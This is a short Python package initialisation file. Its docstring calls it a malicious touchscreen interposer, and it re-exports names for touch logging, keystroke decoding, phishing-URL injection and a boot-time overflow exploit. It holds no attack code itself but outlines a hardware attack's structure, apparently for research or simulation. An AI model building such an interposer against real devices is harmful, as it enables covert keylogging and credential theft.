"""Malicious interposer: touch logging and injection, keyboard tracking, boot exploit."""

from .exploit import (
    CraftedDescriptorSet, ExploitPersona, OverflowPayload, build_overflow_payload,
    compute_crafted_irq_total, craft_descriptor_set, exploit_respond,
)
from .injection import (
    InjectionPlan, NoMapping, UnreachableSymbol, load_phish_map, plan_keys, plan_points,
    plan_stroke, plan_taps, substitute_url,
)
from .interposer import ChipInTheMiddle, LoggedTouch, logged_touches, observe
from .keyboard import (
    Focus, KeyboardLayout, KeyboardMode, KeyRegion, KeyStreamDecoder, Trigger, TypingState,
    decode_key, default_layout, step_keyboard_mode, step_typing,
)
